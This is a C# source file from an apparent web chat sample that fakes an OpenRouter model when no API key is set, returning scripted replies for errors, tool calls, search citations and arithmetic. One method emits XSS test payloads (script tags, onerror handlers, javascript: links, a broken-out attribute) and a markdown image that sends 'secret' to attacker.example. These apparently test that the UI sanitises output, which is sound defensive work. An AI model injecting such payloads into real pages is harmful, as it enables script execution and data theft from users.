using System.Net;
using System.Text;
using Connectors.OpenRouter;
using Connectors.OpenRouter.Testing;

namespace Samples.WebChat;

/// <summary>Plays the model where there is no key: what it says depends on a word in the question.</summary>
internal static class StandIn
{
    public static bool IsNeeded { get; } = string.IsNullOrEmpty(Environment.GetEnvironmentVariable(OpenRouterDefaults.ApiKeyVariable));

    /// <param name="fake">What answers; null for <see cref="Answer"/> at the pace of a model.</param>
    public static HttpClient CreateClient(FakeOpenRouter? fake = null)
    {
        fake ??= new FakeOpenRouter { TimeProvider = TimeProvider.System }.Otherwise(reply => Answer(reply.Pace(TimeSpan.FromMilliseconds(28))));
        var client = new HttpClient(new Ledger(fake)) { Timeout = Timeout.InfiniteTimeSpan };
        client.DefaultRequestHeaders.Authorization = new("Bearer", "sk-or-v1-stand-in");
        return client;
    }

    public static void Answer(FakeReply reply)
    {
        var question = reply.Request.UserText;
        bool Asks(string word) => question.Contains(word, StringComparison.OrdinalIgnoreCase);
        var style = reply.Request.Model?.Split('/')[0] switch { "anthropic" => FakeThinking.Anthropic, "google" => FakeThinking.Gemini, "deepseek" => FakeThinking.Text, _ => FakeThinking.Summary };
        reply.Served(reply.Request.Model ?? "openai/o4-mini");
        if (Asks("refused"))
            reply.Status(401, "User not found.");
        else if (Asks("budget"))
            reply.Status(402);
        else if (Asks("away"))
            reply.Think("I begin to think about this, and I am sure that I will come to an", style).Reset();
        else if (Asks("hostile"))
            Hostile(reply, style);
        else if (reply.Request.ToolOutput("days_between") is { } days)
            reply.Think($"The tool says {days}. That is all I need.", style).Say($"From 26 November to 24 December 2026 it is **{days} days**: four weeks.").Usage(input: 141, cost: 0.000412m);
        else if (Asks("days"))
            reply.Think("Counting days in my head is how mistakes are made. There is a tool for it.", style)
                .Call("days_between").Arguments("{\"from\":", "\"2026-", "11-26\",", "\"to\":", "\"2026-", "12-24\"}").Usage(input: 96, cost: 0.000301m);
        else if (Asks("search"))
            Searched(reply, style);
        else if (Asks("long"))
            reply.Think(string.Concat(Enumerable.Repeat("I turn the question over once more, from another side, and find that it is still the same question. ", 40)), style).Say("It is what it was.");
        else if (Asks("train"))
            Train(reply, style);
        else if (Asks("and "))
            reply.Think("The speed stays, the time changes: 60 × 4 = 240. I still have my earlier steps before me.", style).Say("Then it goes **240 miles**: 60 mph × 4 hours.").Usage(input: 188, cost: 0.00038m);
        else
            reply.Think("This is a stand-in, and it knows few things by heart.", style).Say("I am only a stand-in. Set `OPENROUTER_API_KEY`, and a model will think about your question.");
    }

    private static void Train(FakeReply reply, FakeThinking style) => reply
        .Think("**Working out the distance**\n\nThe speed is 60 miles per hour, and the time is 2.5 hours. Distance is speed times time. Two full hours make 120 miles, and the half hour adds 30 more. "
            + "Together that is 150 miles. Let me check it the other way round: 150 miles at 60 miles per hour take 2.5 hours. It holds.", style)
        .Say("The train goes **150 miles**.\n\n| Part of the journey | Time | Distance |\n|---|---:|---:|\n| two full hours | 2 h | 120 miles |\n| the last half hour | ½ h | 30 miles |\n| **together** | **2½ h** | **150 miles** |\n\nIn general `distance = speed × time`.")
        .Usage(input: 84, output: 196, reasoning: 92, cost: 0.000955m);

    private static void Searched(FakeReply reply, FakeThinking style) => reply
        .Think("This wants a source rather than my memory.", style)
        .Search("Bergen line length", new Uri("https://en.wikipedia.org/wiki/Bergen_Line"))
        .Say("The Bergen Line from Oslo to Bergen is **496 kilometres** long.").Cite("https://en.wikipedia.org/wiki/Bergen_Line", "Bergen Line")
        .Usage(input: 1204, cost: 0.0042m);

    private static void Hostile(FakeReply reply, FakeThinking style) => reply
        .Think("<img src=x onerror=\"window.pwned=1\"> <script>window.pwned=1</script>", style)
        .Say("<script>window.pwned=1</script>\n\n<img src=x onerror=\"window.pwned=1\">\n\n[click](javascript:window.pwned=1) [entity](java&#115;cript:window.pwned=1) [data](data:text/html,x)\n\n![pixel](https://attacker.example/p.png?words=secret)\n\n<javascript:window.pwned=1>\n\n[a good link](https://example.com/)")
        .Cite("https://example.com/\"onmouseover=\"window.pwned=1", "<b>title</b>");

    /// <summary>Answers what the platform is asked besides: its models, and what a stopped generation cost.</summary>
    private sealed class Ledger(HttpMessageHandler inner) : DelegatingHandler(inner)
    {
        private static readonly string Models = $"{{\"data\":[{string.Join(',', Account.Favourites.Select(Entry))}]}}";

        private static string Entry(Model model) => $$"""
            {"id":"{{model.Id}}","name":"{{model.Name}}","architecture":{"output_modalities":["text"]},"supported_parameters":["reasoning","tools"],
             "reasoning":{"mandatory":{{(model.Id.StartsWith("deepseek", StringComparison.Ordinal) ? "true" : "false")}},"supported_efforts":["max","xhigh","high","medium","low","minimal","none"] } }
            """;

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken) =>
            request.Method != HttpMethod.Get ? base.SendAsync(request, cancellationToken)
            : Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK)
            {
                Content = new StringContent(request.RequestUri!.AbsolutePath.EndsWith("/models", StringComparison.Ordinal) ? Models : """{"data":{"id":"gen-1","total_cost":0.000217}}""", Encoding.UTF8, "application/json"),
            });
    }
}
